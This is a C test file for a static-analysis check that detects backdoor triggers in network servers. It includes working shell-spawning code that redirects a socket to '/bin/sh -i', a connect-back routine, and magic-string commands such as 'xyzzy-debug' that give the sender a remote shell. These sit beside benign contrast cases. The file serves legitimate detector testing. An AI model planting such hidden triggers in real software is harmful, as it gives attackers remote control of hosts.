// RUN: %run-both --checks=backdoor-input-trigger %s -- %mock | FileCheck %s -check-prefix=CHECK-MESSAGES -implicit-check-not="{{warning|error}}:"
// Remote shells: a descriptor moved onto standard input, output and error
// (dup2) and a shell fixed in the source run on it. A constant command in a
// server's dispatch that hands out such a shell is a finding even where the
// protocol's other commands are compared with constants too; a command the
// request names (a CGI script) run the same way is not.
#include <string.h>

typedef long ssize_t;
ssize_t recv(int fd, void *buf, unsigned long n, int flags);
ssize_t send(int fd, const void *buf, unsigned long n, int flags);
int dup2(int from, int to);
int execl(const char *path, const char *arg, ...);
int execv(const char *path, char *const argv[]);
int socket(int domain, int type, int protocol);
int connect(int fd, const void *addr, unsigned len);
int open(const char *path, int flags, ...);
int chdir(const char *path);
void send_file(int fd, const char *name);

static void spawn_shell(int fd) {
  dup2(fd, 0);
  dup2(fd, 1);
  dup2(fd, 2);
  execl("/bin/sh", "sh", "-i", (char *)0);
}

static void connect_back(const char *host) {
  int s = socket(2, 1, 0);
  if (connect(s, host, 16) == 0) spawn_shell(s);
}

void serve(int c) {
  char buf[512];
  ssize_t n = recv(c, buf, sizeof buf - 1, 0);
  if (n <= 0) return;
  buf[n] = 0;
  // ok: backdoor-input-trigger
  if (strncmp(buf, "HELO", 4) == 0) { send(c, "250 ok\r\n", 8, 0); return; }
  // ok: backdoor-input-trigger
  if (strncmp(buf, "RETR ", 5) == 0) { send_file(c, buf + 5); return; }
  // ruleid: backdoor-input-trigger
  if (memcmp(buf, "\x13\x37knock", 7) == 0) connect_back(buf + 7);
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "\x13\x37knock" and only a match reaches 'connect_back', which calls 'execl' (a shell with standard input and output on a descriptor); whoever sends the constant gets a shell on the host [backdoor-input-trigger]
  // ruleid: backdoor-input-trigger
  if (strcmp(buf, "xyzzy-debug") == 0) spawn_shell(c);
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "xyzzy-debug" and only a match reaches 'spawn_shell', which calls 'execl' (a shell with standard input and output on a descriptor); whoever sends the constant gets a shell on the host [backdoor-input-trigger]
}

// A web server: the request names the script, run with its output on the connection.
static void run_cgi(int c, const char *script) {
  char *argv[] = {(char *)script, 0};
  dup2(c, 1);
  execv(script, argv);
}

// A daemon pointing standard streams at /dev/null: no command, no shell.
static void daemonize(void) {
  int fd = open("/dev/null", 2);
  dup2(fd, 0);
  dup2(fd, 1);
  dup2(fd, 2);
  chdir("/");
}

void http(int c) {
  char req[1024];
  ssize_t n = recv(c, req, sizeof req - 1, 0);
  if (n <= 0) return;
  req[n] = 0;
  // ok: backdoor-input-trigger
  if (strncmp(req, "GET /cgi-bin/", 13) == 0) run_cgi(c, req + 13);
  // ok: backdoor-input-trigger
  else if (strncmp(req, "GET /", 5) == 0) send_file(c, req + 5);
  // ok: backdoor-input-trigger
  else if (strncmp(req, "DETACH", 6) == 0) daemonize();
}

/* A match made only after the function verified the caller (a session
   check that refuses first): a CSRF header compared with a constant opens
   nothing a login did not; a hidden command of a restricted console that
   hands a shell to the logged-in user is still a trigger. */
int session_valid(const char *cookie);
int system(const char *command);
int restart_ui(void);
void admin_route(int c, const char *cookie) {
  char requested_with[64];
  if (!session_valid(cookie)) { send(c, "403\r\n", 5, 0); return; }
  ssize_t n = recv(c, requested_with, sizeof requested_with - 1, 0);
  if (n <= 0) return;
  requested_with[n] = 0;
  // ok: backdoor-input-trigger
  if (strcmp(requested_with, "kiosk-admin-ui") != 0) { send(c, "400\r\n", 5, 0); return; }
  system("/usr/sbin/restart-kiosk-ui");
}
void console(int c, const char *cookie) {
  char line[128];
  if (!session_valid(cookie)) return;
  ssize_t n = recv(c, line, sizeof line - 1, 0);
  if (n <= 0) return;
  line[n] = 0;
  // ruleid: backdoor-input-trigger
  if (strncmp(line, "\x1b]mfg;", 6) == 0) spawn_shell(c);
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "\x1b]mfg;" and only a match reaches 'spawn_shell', which calls 'execl' (a shell with standard input and output on a descriptor); whoever sends the constant gets a shell on the host [backdoor-input-trigger]
}
